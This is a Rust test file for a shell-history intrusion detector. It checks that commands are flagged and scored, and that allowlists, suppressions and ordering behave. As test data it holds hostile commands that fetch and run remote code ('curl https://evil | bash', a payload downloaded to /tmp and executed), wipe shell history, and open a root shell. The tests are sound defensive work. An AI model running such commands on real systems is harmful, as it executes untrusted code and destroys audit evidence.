use basket::ids::{detect_intrusions, status_to_score, IdsConfig};
use basket::storage::db::{CommandStatus, Entry};

fn entry(ts: i64, cmd: &str) -> Entry {
    Entry {
        id: "id".to_string(),
        timestamp: ts,
        command: cmd.to_string(),
        date: "2024-01-01 00:00:00".to_string(),
        status: CommandStatus::Unknown,
        user: "tester".to_string(),
    }
}

fn no_config() -> IdsConfig {
    IdsConfig::default()
}

#[test]
fn status_to_score_maps_statuses() {
    assert_eq!(status_to_score(&CommandStatus::Success), 0);
    assert_eq!(status_to_score(&CommandStatus::Unknown), 1);
    assert_eq!(status_to_score(&CommandStatus::Error(42)), 2);
}

#[test]
fn flags_pipe_to_shell() {
    let entries = vec![entry(1, "curl https://evil | bash")];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(!findings.is_empty());
    assert!(findings[0].reasons.iter().any(|r| r.contains("pipe")));
}

#[test]
fn flags_history_tamper() {
    let entries = vec![entry(1, "history -c")];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(!findings.is_empty());
    assert!(findings[0].reasons.iter().any(|r| r.contains("history")));
}

#[test]
fn detects_recon_download_exec_sequence() {
    let entries = vec![
        entry(10, "nmap -sV 127.0.0.1"),
        entry(20, "curl http://example.com/payload.sh -o /tmp/p.sh"),
        entry(30, "bash /tmp/p.sh"),
    ];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(findings
        .iter()
        .any(|f| f.reasons.iter().any(|r| r.contains("sequence"))));
}

#[test]
fn allowlist_skips_matching_commands() {
    let config = IdsConfig {
        suppress_rules: vec![],
        allowlist_commands: vec!["curl".to_string()],
    };
    let entries = vec![entry(1, "curl https://example.com | bash")];
    let findings = detect_intrusions(&entries, &config, "tester");
    assert!(findings.is_empty());
}

#[test]
fn suppression_removes_matched_rules() {
    let config = IdsConfig {
        suppress_rules: vec!["priv.esc".to_string(), "priv.shell".to_string()],
        allowlist_commands: vec![],
    };
    let entries = vec![entry(1, "sudo bash")];
    let findings = detect_intrusions(&entries, &config, "tester");
    assert!(findings.is_empty());
}

#[test]
fn classifies_service_user() {
    let mut entry = entry(1, "whoami");
    entry.user = "root".to_string();
    let findings = detect_intrusions(&[entry], &no_config(), "tester");
    assert!(!findings.is_empty());
    assert_eq!(findings[0].user_type, "service");
}

#[test]
fn flags_persistence_and_recon() {
    let entries = vec![entry(1, "crontab -e"), entry(2, "uname -a")];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(findings
        .iter()
        .any(|f| f.reasons.iter().any(|r| r.contains("persistence"))));
    assert!(findings
        .iter()
        .any(|f| f.reasons.iter().any(|r| r.contains("recon"))));
}

#[test]
fn flags_lolbin_and_remote_exec() {
    let entries = vec![
        entry(1, "python -c 'print(1)'"),
        entry(2, "bash -c \"$(curl http://example.com)\""),
    ];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(findings
        .iter()
        .any(|f| f.reasons.iter().any(|r| r.contains("lolbin"))));
    assert!(findings
        .iter()
        .any(|f| f.reasons.iter().any(|r| r.contains("subshell"))));
}

#[test]
fn detects_sudo_shell_sequence() {
    let entries = vec![entry(10, "sudo ls"), entry(20, "bash")];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(findings
        .iter()
        .any(|f| f.reasons.iter().any(|r| r.contains("sudo"))));
}

#[test]
fn skips_empty_commands() {
    let entries = vec![entry(1, ""), entry(2, "   ")];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(findings.is_empty());
}

#[test]
fn uses_current_user_when_entry_user_missing() {
    let mut entry = entry(1, "history -c");
    entry.user = String::new();
    let findings = detect_intrusions(&[entry], &no_config(), "someone");
    assert_eq!(findings[0].user, "someone");
}

#[test]
fn findings_come_highest_score_first_then_latest() {
    let entries = vec![
        entry(5, "uname -a"),
        entry(1, "curl https://evil | bash"),
        entry(9, "uname -r"),
    ];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert_eq!(findings.len(), 3);
    assert_eq!(findings[0].command, "curl https://evil | bash");
    assert!(findings[0].score >= findings[1].score);
    assert!(findings[1].score >= findings[2].score);
    assert_eq!(findings[1].command, "uname -r");
    assert_eq!(findings[2].command, "uname -a");
}

#[test]
fn sequences_need_the_window() {
    let entries = vec![entry(10, "sudo ls"), entry(1000, "bash")];
    let findings = detect_intrusions(&entries, &no_config(), "tester");
    assert!(!findings
        .iter()
        .any(|f| f.reasons.iter().any(|r| r.contains("sudo → shell sequence"))));
}

#[test]
fn human_users_are_classified_as_human() {
    let findings = detect_intrusions(&[entry(1, "history -c")], &no_config(), "tester");
    assert_eq!(findings[0].user_type, "human");
    assert_eq!(findings[0].user, "tester");
}

#[test]
fn harmless_commands_give_no_findings() {
    let entries = vec![entry(1, "ls -la"), entry(2, "git status")];
    assert!(detect_intrusions(&entries, &no_config(), "tester").is_empty());
}

#[test]
fn each_finding_comes_from_its_own_entry() {
    let mut entries = vec![
        entry(10, "  curl http://x | sh  "),
        entry(20, "ls -la"),
        entry(30, "whoami"),
        entry(40, "   "),
        entry(50, "history -c"),
    ];
    entries[2].user = String::new();
    let findings = detect_intrusions(&entries, &no_config(), "alice");
    assert!(findings.len() <= entries.len());
    let mut used = Vec::new();
    for f in &findings {
        assert!(f.score > 0);
        assert!(!f.reasons.is_empty());
        let e = entries
            .iter()
            .position(|e| e.timestamp == f.timestamp)
            .expect("finding has an entry");
        assert!(!used.contains(&e));
        used.push(e);
        assert_eq!(f.command, entries[e].command.trim());
        assert!(!f.command.is_empty());
    }
    let whoami = findings.iter().find(|f| f.command == "whoami").expect("recon flagged");
    assert_eq!(whoami.user, "alice");
    assert_eq!(whoami.user_type, "human");
    let pipe = findings.iter().find(|f| f.timestamp == 10).expect("pipe flagged");
    assert_eq!(pipe.command, "curl http://x | sh");
    assert_eq!(pipe.user, "tester");
}
